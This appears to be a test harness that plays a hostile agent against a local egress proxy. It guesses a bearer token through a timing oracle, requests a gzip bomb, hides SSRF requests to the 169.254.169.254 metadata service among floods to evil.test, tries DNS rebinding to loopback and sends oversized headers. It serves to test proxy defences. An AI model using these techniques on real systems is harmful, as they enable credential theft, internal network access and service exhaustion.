// The third hostile egress agent. MODE=a: it streams guesses at the credential
// through an upstream it controls (a guess, then a pause) and times what comes back;
// it asks for a gzip bomb and its credential in zero-padded HTML references, sends
// 10,500 credentialed requests; it makes the upstream break its chunked body in the middle
// of the echoed credential, then tries the credential again; it hides SSRF attempts in
// a flood of refusals. MODE=b: it reaches names that rebind to loopback through the
// host's upstream proxy, then floods the rate limit. MODE=c: it sends requests with
// 60 KiB headers.
'use strict';
const { execFileSync } = require('child_process');
const http = require('http');
const net = require('net');

const plain = process.env.PLAIN_PORT;
const up = process.env.UP_PORT;
const out = {};

function curl(args) {
  try {
    const stdout = execFileSync('/opt/curl/curl', ['-sS', '-g', '--max-time', '10', ...args], {
      env: { ...process.env, LD_LIBRARY_PATH: '/opt/curl' }, encoding: 'latin1', stdio: ['ignore', 'pipe', 'pipe'],
    });
    return { code: 0, out: stdout };
  } catch (e) {
    return { code: e.status, out: String(e.stdout || ''), err: String(e.stderr || '') };
  }
}

// get sends one forward-proxy request and collects the answer as it arrives.
function get(host, path, headers) {
  return new Promise((resolve) => {
    const r = { status: 0, headers: {}, body: '', error: '', chunks: [] };
    const req = http.request({ host: '127.0.0.1', port: 3128, method: 'GET', path: `http://${host}${path}`,
      headers: { Host: host, ...(headers || {}) }, agent: false }, (res) => {
      r.status = res.statusCode;
      r.headers = res.headers;
      res.setEncoding('latin1');
      res.on('data', (d) => { r.chunks.push({ t: Date.now(), s: d }); r.body += d; });
      res.on('end', () => resolve(r));
      res.on('error', (e) => { r.error = String(e); resolve(r); });
      res.on('aborted', () => { r.error = 'aborted'; });
    });
    req.on('error', (e) => { r.error = String(e); resolve(r); });
    req.end();
  });
}

// pipeline writes many requests on one connection and counts the answers by status
// and guard ("403 allowlist", "200", ...).
function pipeline(reqs) {
  return new Promise((resolve) => {
    const c = net.connect(3128, '127.0.0.1');
    const counts = {};
    let buf = '';
    let seen = 0;
    c.setEncoding('latin1');
    c.on('data', (d) => {
      buf += d;
      for (;;) {
        const head = buf.indexOf('\r\n\r\n');
        if (head < 0) break;
        const h = buf.slice(0, head);
        let end;
        const len = /\r\ncontent-length: (\d+)/i.exec(h);
        if (len) {
          end = head + 4 + Number(len[1]);
        } else if (/\r\ntransfer-encoding: chunked/i.test(h)) {
          const z = buf.indexOf('\r\n0\r\n\r\n', head);
          if (z < 0) break;
          end = z + 7;
        } else {
          end = head + 4;
        }
        if (buf.length < end) break;
        const g = /\r\nx-egress-guard: ([a-z]+)/i.exec(h);
        const key = h.slice(9, 12) + (g ? ' ' + g[1] : '');
        counts[key] = (counts[key] || 0) + 1;
        seen++;
        buf = buf.slice(end);
      }
      if (seen >= reqs.length) c.end();
    });
    c.on('error', () => {});
    c.on('close', () => resolve(counts));
    c.write(reqs.join(''));
  });
}

const refusal = 'GET http://evil.test/flood HTTP/1.1\r\nHost: evil.test\r\n\r\n';
const ssrf = (i) => `GET http://169.254.169.254/latest/meta-data/${i} HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n`;

async function modeA() {
  // 1. The timing oracle: at each position, every candidate after the prefix the
  //    agent knows (the public "ghp_"), streamed back with a pause after it.
  const alphabet = 'abcdefghijklmnopqrstuvwxyz_-0123'; // 32 parallel requests: within the run's connection limit
  out.oracle = [];
  for (let pos = 0; pos < 4; pos++) {
    const known = process.env.KNOWN.slice(0, pos);
    const res = await Promise.all([...alphabet].map(async (c) => {
      const g = known + c;
      const r = await get(`oracle.test:${plain}`, `/oracle?g=${encodeURIComponent(g)}`, { Authorization: 'Bearer {{token}}' });
      let guessAt = 0; let sepAt = 0; let acc = '';
      for (const ch of r.chunks) {
        acc += ch.s;
        if (!guessAt && acc.startsWith('G' + g)) guessAt = ch.t;
        if (!sepAt && acc.includes('\n')) sepAt = ch.t;
      }
      return { g, early: guessAt > 0 && sepAt > 0 && sepAt - guessAt > 150, body: r.body.replace(g, '<guess>'), status: r.status };
    }));
    out.oracle.push(res);
  }

  // 2b. The credential echoed in zero-padded HTML numeric references; then 10,500
  //     credentialed requests on one connection (the result keeps their first and last).
  const html = await get(`oracle.test:${plain}`, '/echo-html', { Authorization: 'Bearer {{token}}' });
  out.html = { status: html.status, body: html.body };
  const creds = [];
  for (let i = 0; i < 10500; i++) creds.push(`GET http://oracle.test:${plain}/cred/${i} HTTP/1.1\r\nHost: oracle.test:${plain}\r\nAuthorization: Bearer {{token}}\r\n\r\n`);
  out.credentialed = await pipeline(creds);

  // 2c. A gzip bomb in answer to a credentialed request (after the others that need
  //     the byte cap: on a proxy without a bound it spends it).
  const bomb = await get(`oracle.test:${plain}`, '/bomb', { Authorization: 'Bearer {{token}}' });
  out.bomb = { status: bomb.status, bytes: bomb.body.length, error: bomb.error };

  // 3. The upstream echoes the credential and breaks its chunked body in the middle
  //    of it; then the credential is tried again, and a request without one.
  const cut = await get(`oracle.test:${plain}`, '/echo-cut', { Authorization: 'Bearer {{token}}' });
  out.cut = { status: cut.status, body: cut.body, error: cut.error, guard: cut.headers['x-egress-guard'] || '' };
  const again = await get(`oracle.test:${plain}`, '/oracle?g=x', { Authorization: 'Bearer {{token}}' });
  out.again = { status: again.status, guard: again.headers['x-egress-guard'] || '' };
  const plainGet = await get(`docs.test:${plain}`, '/page');
  out.uncredentialed = { status: plainGet.status };

  // 4. SSRF attempts hidden in a flood of cheap refusals, one after it, more flood.
  const reqs = [];
  for (let i = 0; i < 1500; i++) reqs.push(refusal);
  for (let i = 0; i < 100; i++) { reqs.push(ssrf(i)); for (let j = 0; j < 60; j++) reqs.push(refusal); }
  reqs.push(ssrf('after-flood'));
  for (let i = 0; i < 5000; i++) reqs.push(refusal);
  const t0 = Date.now();
  out.flood = { counts: await pipeline(reqs), sent: reqs.length, ms: Date.now() - t0 };

}

async function modeB() {
  // 1. Names that answer an allowed address first and loopback after, through the
  //    host's upstream proxy (which resolves names itself): TLS terminated, plain
  //    http and a tunnel-only provider.
  out.rebind = [];
  for (let i = 0; i < 5; i++) {
    out.rebind.push(curl(['-o', '/dev/null', '-w', '%{http_code}', `https://r${i}.test:${up}/v1/x`]));
    out.rebind.push(curl(['-o', '/dev/null', '-w', '%{http_code}', `http://p${i}.test:${plain}/y`]));
    out.rebind.push(curl(['-o', '/dev/null', '-w', '%{http_code}', `https://t${i}.test:${up}/z`]));
  }
  // 2. A burst far over the run's request rate.
  const reqs = [];
  for (let i = 0; i < 400; i++) reqs.push(refusal);
  out.rate = await pipeline(reqs);
}

async function modeC() {
  // Requests with a 60 KiB header and a 7 KiB path, on a 32 MiB run cap.
  const pad = 'p'.repeat(60 << 10);
  const path = '/' + 'q'.repeat(7 << 10);
  const heads = [];
  for (let i = 0; i < 600; i++) heads.push(`GET http://docs.test:${plain}${path} HTTP/1.1\r\nHost: docs.test:${plain}\r\nX-Pad: ${pad}\r\n\r\n`);
  out.heads = await pipeline(heads);
}

(async () => {
  if (process.env.MODE === 'a') await modeA(); else if (process.env.MODE === 'b') await modeB(); else await modeC();
  process.stdout.write(JSON.stringify(out));
})();
